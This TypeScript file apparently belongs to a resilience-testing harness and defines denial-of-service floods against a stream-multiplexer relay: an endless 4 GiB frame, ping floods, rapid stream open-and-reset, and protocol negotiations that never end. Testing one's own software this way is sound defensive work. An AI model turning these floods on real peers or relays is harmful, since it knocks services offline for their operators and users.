/** What stands beneath the streams: frames without end, pings, streams that are opened and reset, and negotiations that lead nowhere. */
import type { Attack } from './attack.ts'
import type { Mallory } from './mallory.ts'
import { pause } from './measure.ts'
import { flagOf, frame, said } from '../kit/muxer-frames.ts'
import { keepWriting } from './wire.ts'

/** A flood of the same bytes, over two connections. */
const flood = (
  name: string,
  what: string,
  make: () => { readonly bytes: () => Uint8Array; readonly deaf?: boolean },
): Attack => ({
  name,
  what,
  victim: 'relay2',
  async strike(mallory: Mallory) {
    await mallory.begin()
    const until = Date.now() + mallory.seconds * 1_000
    const write = () => keepWriting(mallory.addresses.relay2!, { until, ...make() })
    await Promise.race([Promise.all([write(), write()]), pause(mallory.seconds * 1_000 + 5_000)])
  },
})

const chunk = Buffer.alloc(64 * 1024, 1)

export const endlessFrames = flood('endless-frames', 'two connections, each with one frame of 4 GiB', () => {
  let isBegun = false
  return {
    bytes() {
      if (isBegun) return chunk
      isBegun = true
      return Buffer.concat([frame({ type: 'data', flags: flagOf.syn, stream: 1_001, length: 0xffff_ffff }), chunk])
    },
  }
})

const pings = Buffer.concat(Array.from({ length: 5_000 }, () => frame({ type: 'ping', flags: flagOf.syn, length: 7 })))

export const muxerPings = flood('muxer-pings', 'pings of the muxer, as many as go, whose answers are read', () => ({
  bytes: () => pings,
}))

export const unreadPings = flood(
  'unread-pings',
  'pings of the muxer, as many as go, whose answers nobody reads',
  () => ({
    bytes: () => pings,
    deaf: true,
  }),
)

export const rapidResets = flood('rapid-resets', 'streams that are opened and reset at once, as many as go', () => {
  let stream = 1_001
  const one = () => {
    stream += 2
    return [
      frame({ type: 'windowUpdate', flags: flagOf.syn, stream }),
      frame({ type: 'data', stream, bytes: said('/multistream/1.0.0') }),
      frame({ type: 'windowUpdate', flags: flagOf.rst, stream }),
    ]
  }
  return { bytes: () => Buffer.concat(Array.from({ length: 200 }, one).flat()) }
})

export const idleTalk = flood(
  'idle-talk',
  'streams on which protocols are named that nobody serves, without end',
  () => {
    let stream = 1_001
    let count = 0
    const words = Buffer.concat([said('/multistream/1.0.0'), ...Array.from({ length: 5_000 }, () => said('x'))])
    return {
      bytes() {
        if (count++ % 20 === 0) stream += 2
        const flags = count % 20 === 1 ? flagOf.syn : 0
        return frame({ type: 'data', flags, stream, bytes: words })
      },
      deaf: true,
    }
  },
)
